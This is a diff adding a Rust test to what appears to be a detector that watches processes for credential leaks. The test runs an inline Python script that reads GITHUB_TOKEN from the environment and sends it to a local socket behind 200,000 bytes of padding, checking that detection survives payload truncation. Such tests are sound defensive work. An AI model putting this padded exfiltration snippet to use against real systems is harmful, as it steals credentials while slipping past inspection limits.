@@ -173,6 +173,43 @@ pub fn read_file_sent_by_the_reader() {
     goes_to(&sent[0], &["127.0.0.1"], sink.port);
 }
 
+/// One send of more than what is looked into, with the secret behind that: nobody can say that it was not sent.
+pub fn longer_than_what_is_looked_into() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let sink = Sink::silent();
+    let agent = Agent::start(&scratch);
+    let token = plant::github();
+    let script = "import os,socket,sys
+s=socket.create_connection(('127.0.0.1',int(sys.argv[1])))
+s.sendall(b'x'*200000+os.environ['GITHUB_TOKEN'].encode())";
+    let done = act("/usr/bin/python3")
+        .args(["-c", script])
+        .arg(sink.port.to_string())
+        .env(token.name, &token.value)
+        .run()
+        .ok();
+    let sent = agent.expect("the send", done.pid, |e| {
+        e.is("credential_sent") && e.in_tree(done.pid)
+    });
+    assert_eq!(sent.grade(), "lineage", "{}", sent.brief());
+    let cut = sent.truncation.as_ref().is_some_and(|t| t.payload);
+    assert!(cut && !sent.coverage.is_empty(), "{}", sent.brief());
+    let evidence = sent.evidence.as_ref().unwrap();
+    assert!(
+        (65_536..200_000).contains(&evidence.inspected_bytes),
+        "{}",
+        sent.brief()
+    );
+    // Told at most every ten seconds.
+    wait_for("the gap", patience(20), || {
+        agent
+            .events()
+            .into_iter()
+            .find(|e| e.reason() == "payload_truncated")
+    });
+}
+
 /// A file that nobody named, read for the first time by a process that is another program, or has a child that sends,
 /// right afterwards: the read is the reader's, and what the child sends is seen.
 pub fn found_in_a_file_and_used_at_once() {
